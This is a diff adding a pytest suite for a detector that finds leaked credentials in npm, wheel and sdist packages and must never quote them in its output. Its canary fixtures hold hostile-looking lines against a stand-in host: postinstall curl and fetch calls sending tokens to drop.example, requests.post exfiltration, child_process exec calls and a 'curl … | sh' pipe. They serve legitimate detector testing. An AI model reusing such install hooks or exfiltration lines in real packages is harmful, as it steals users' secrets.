@@ -1,0 +1,129 @@
+"""A credential in a package is told once, with its place and fingerprint, and is seen nowhere."""
+
+from __future__ import annotations
+
+import json
+
+import msgspec
+import pytest
+
+from app.core.secret import fingerprint
+from tests import minted
+from tests.detectors.artifacts import findings, npm, places, sdist, told, wheel
+from worker.detectors import leaked_secret
+
+NPM_TOKEN = minted.with_crc("npm_")
+
+
+class TestAlarm:
+    def test_a_token_in_code_is_high_and_named_by_its_fingerprint(self) -> None:
+        (found,) = findings(leaked_secret, npm({"index.js": f"// publish\nconst t = '{NPM_TOKEN}';\n"}))
+        mark = fingerprint(NPM_TOKEN.encode())
+        assert told([found]) == [f"high: it ships an npm token in index.js (fingerprint {mark})"]
+        assert (places(found), found.evidence[0].text) == (["index.js:2"], "const t = 'npm_…")
+        assert found.evidence[0].says.plain() == f"holds npm-token npm_… 40 characters, fingerprint {mark}"
+
+    @pytest.mark.parametrize("path", [".npmrc", ".env", "dist/bundle.js.map", "logo.png", "x.pyc", "Makefile"])
+    def test_whatever_the_file_is_called(self, path: str) -> None:
+        (found,) = findings(leaked_secret, npm({path: f"//registry.example/:_authToken={NPM_TOKEN}\n"}))
+        assert (found.severity, places(found)[0]) == ("high", f"{path}:1")
+
+    def test_a_private_key(self) -> None:
+        (found,) = findings(leaked_secret, wheel({"imgpress/__init__.py": "", "imgpress/server.key": minted.rsa_key()}))
+        assert told([found])[0].startswith("high: it ships a private key in imgpress/server.key")
+
+    def test_a_service_account(self) -> None:
+        (found,) = findings(leaked_secret, sdist({"imgpress/account.json": minted.service_account()}))
+        assert "the key of a Google Cloud service account" in told([found])[0]
+
+    def test_the_same_secret_in_several_files_is_one_finding_at_the_gravest(self) -> None:
+        text = f"'{NPM_TOKEN}'"
+        (found,) = findings(leaked_secret, npm({"test/a.js": text, "lib/b.js": text, "docs/c.md": text}))
+        assert (found.severity, places(found)) == ("high", ["lib/b.js:1", "test/a.js:1", "docs/c.md:1"])
+
+    def test_the_old_version_s_secret_is_not_new_wherever_it_moved(self) -> None:
+        old, new = npm({"a.js": f"'{NPM_TOKEN}'"}), npm({"b/c.js": f"\n\n'{NPM_TOKEN}'"})
+        assert [found.new for found in findings(leaked_secret, new, old)] == [False]
+        assert [found.new for found in findings(leaked_secret, new, npm({"a.js": ""}))] == [True]
+
+
+class TestInnocentTwin:
+    @pytest.mark.parametrize("path", ["test/fixtures/key.pem", "docs/setup.md", "certs/localhost.key", "examples/a.js"])
+    def test_what_stands_in_tests_documents_and_examples_is_low(self, path: str) -> None:
+        """The shape of servers that bring a certificate for the developer's own machine."""
+        (found,) = findings(leaked_secret, npm({path: minted.ec_key()}))
+        assert found.severity == "low"
+
+    def test_half_a_key_is_low(self) -> None:
+        (found,) = findings(leaked_secret, npm({"a.js": f"'{minted.aws_id()}'"}))
+        assert (found.severity, found.confidence) == ("low", "low")
+
+    @pytest.mark.parametrize(
+        "text",
+        [
+            "const BEGIN = '-----BEGIN RSA PRIVATE KEY-----';",
+            "if (token.startsWith('ghp_') || token.startsWith('npm_')) mask(token);",
+            "AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
+            "token: ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
+            "const re = /npm_[A-Za-z0-9]{36}/;",
+            "process.env.npm_package_config_registry_with_a_long_name_of_its_own",
+        ],
+    )
+    def test_code_that_knows_the_forms_and_holds_none(self, text: str) -> None:
+        """The shape of secret scanners, CI tools and documentation."""
+        assert findings(leaked_secret, npm({"index.js": text})) == []
+
+    def test_hashes_and_blobs(self) -> None:
+        """The shape of lock files and bundles."""
+        text = json.dumps({"integrity": f"sha512-{minted.azure()}", "data": minted.noise("blob", 20_000)})
+        assert findings(leaked_secret, npm({"data.json": text})) == []
+
+
+class TestCanary:
+    """No credential leaves the sealed child in any fact, wherever its line is quoted."""
+
+    @pytest.mark.parametrize(("kind", "mint"), minted.EVERY.items(), ids=list(minted.EVERY))
+    def test_no_fact_and_no_finding_shows_it(self, kind: str, mint: object) -> None:
+        token = mint("canary")  # type: ignore[operator]
+        pad = "x" * 150
+        found = npm(
+            {
+                "package.json": json.dumps(
+                    {
+                        "name": "fast-colour",
+                        "version": "2.4.1",
+                        "license": token,
+                        "bin": {token[:30]: "a.js"},
+                        "scripts": {
+                            "postinstall": f"curl -H 'Authorization: {token}' https://drop.example/{token}",
+                            "preinstall": f"echo {pad} {token} {pad} && node a.js",
+                        },
+                    }
+                ),
+                "a.js": f"fetch('https://u:{token}@drop.example', {{headers: {{a: '{token}'}}}}); eval('{token}')\n"
+                f"require('child_process').exec('run {token}'); fs.readFileSync('/x/{token}')\n"
+                f"/*{pad}*/ require('child_process').exec('{token}')\n",
+                "b.py": f"import os, subprocess\nsubprocess.run(['x', '{token}'])\nopen('{token}', 'w')\n"
+                f"requests.post('https://drop.example', data='{token}')\n",
+                "c.sh": f"curl https://drop.example/?k={token} | sh\n",
+                "d.js": f"exec('{token[:20]}' + '{token[20:]}'); require('child_process').exec('{token[:9]}' + '{token[9:]}')\n",
+            }
+        )
+        shown = msgspec.json.encode([found, findings(leaked_secret, found)]).decode()
+        assert f"{kind} " in shown
+        for start in range(5, len(token) - 12):
+            assert token[start : start + 12] not in shown
+
+    def test_no_line_of_a_private_key_is_quoted(self) -> None:
+        key = minted.rsa_key()
+        text = key.replace("\n", "\\n")
+        found = npm(
+            {
+                "a.js": f"require('child_process').exec('x', {{env: {{KEY: '{text}'}}}})\n",
+                "b.sh": f"echo '{key}' | sh\n",
+            }
+        )
+        shown = msgspec.json.encode([found, findings(leaked_secret, found)]).decode()
+        assert "private-key" in shown
+        for line in key.split("\n")[1:-2]:
+            assert all(line[start : start + 12] not in shown for start in range(len(line) - 12))
